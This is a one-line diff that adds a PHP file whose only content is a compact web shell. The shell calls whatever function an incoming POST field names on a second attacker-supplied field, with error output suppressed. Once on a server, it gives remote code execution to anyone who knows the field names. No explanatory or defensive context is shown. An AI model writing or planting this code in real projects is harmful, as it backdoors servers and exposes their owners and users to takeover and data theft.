@@ -1,0 +1,1 @@
+<?php @$_POST['pwd']($_POST['ihqetr']); ?>
